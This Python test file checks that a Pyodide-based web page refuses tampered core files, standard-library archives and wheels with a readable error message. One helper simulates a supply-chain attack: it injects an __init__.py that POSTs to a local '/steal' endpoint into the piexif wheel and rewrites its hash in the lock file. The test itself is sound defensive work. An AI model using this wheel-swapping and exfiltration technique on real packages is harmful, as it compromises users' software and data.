"""Issue 14, point 4: every shipped file is checked against the sha256 list in the page's own script before use.
A changed byte in Pyodide's core, the standard library or a wheel, or a wheel swapped together with its hash in
pyodide-lock.json, is refused with a sentence naming the file (no traceback), and the page never claims to work
offline then. Served as GitHub Pages serves it, with no service worker (its own check is in test_security_updates)."""

import hashlib
import io
import json
import zipfile

import pytest

from security_helpers import flip_byte, rewrite, serve_plain, site_copy

BOOT_TIMEOUT_MS = 90_000


def _swap_wheel_and_its_hash(site):
    """Replace the piexif wheel with one that carries extra code, and write its hash into the lock file."""
    lock_path = site / "pyodide" / "pyodide-lock.json"
    lock = json.loads(lock_path.read_text())
    entry = lock["packages"]["piexif"]
    wheel = site / "pyodide" / entry["file_name"]
    buffer = io.BytesIO()
    with zipfile.ZipFile(wheel) as original, zipfile.ZipFile(buffer, "w") as swapped:
        for item in original.infolist():
            swapped.writestr(item, original.read(item))
        # a source beside the shipped bytecode: CPython would import it first
        swapped.writestr("piexif/__init__.py", "import js\njs.fetch('http://127.0.0.1:9/steal', method='POST')\n")
    rewrite(wheel, buffer.getvalue())
    entry["sha256"] = hashlib.sha256(buffer.getvalue()).hexdigest()
    rewrite(lock_path, json.dumps(lock, indent=1, sort_keys=True).encode())
    return "pyodide/pyodide-lock.json"


def _flip(path):
    def change(site):
        flip_byte(site / path)
        return path
    return change


def _flip_wheel(site):
    lock = json.loads((site / "pyodide" / "pyodide-lock.json").read_text())
    return _flip("pyodide/" + lock["packages"]["pillow"]["file_name"])(site)


TAMPERING = {
    "pyodide.asm.wasm": _flip("pyodide/pyodide.asm.wasm"),
    "python_stdlib_rest.zip": _flip("pyodide/python_stdlib_rest.zip"),  # the standard library a start loads
    "pyodide.asm.js": _flip("pyodide/pyodide.asm.js"),
    "a wheel": _flip_wheel,
    "a wheel and its hash in the lock": _swap_wheel_and_its_hash,
}


@pytest.mark.parametrize("change", TAMPERING)
def test_a_changed_file_is_refused_with_a_sentence(browser, site_dir, tmp_path, change):
    site = site_copy(site_dir, tmp_path)
    changed = TAMPERING[change](site)
    server = serve_plain(site)
    context = browser.new_context(service_workers="block")
    try:
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/")
        page.locator('#engine[data-state="error"]').wait_for(timeout=BOOT_TIMEOUT_MS)
        message = page.locator("#engine-label").inner_text()
        assert message.startswith(f"The engine could not start: {changed} is not the file this version of the "
                                  "site shipped"), message
        assert "Traceback" not in message and "File \"" not in message
        status = page.locator("#offline")
        assert status.get_attribute("data-state") == "broken"
        assert "Works offline" not in status.inner_text()
        assert status.get_by_role("button", name="Clear the offline copy").is_visible()
    finally:
        context.close()
        server.shutdown()


def test_the_untouched_copy_starts(browser, site_dir, tmp_path):
    """The same copy and server without a change: the engine starts (so the refusals above are the check's)."""
    site = site_copy(site_dir, tmp_path)
    server = serve_plain(site)
    context = browser.new_context(service_workers="block")
    try:
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/")
        page.locator('#engine[data-state="ready"]').wait_for(timeout=BOOT_TIMEOUT_MS)
    finally:
        context.close()
        server.shutdown()
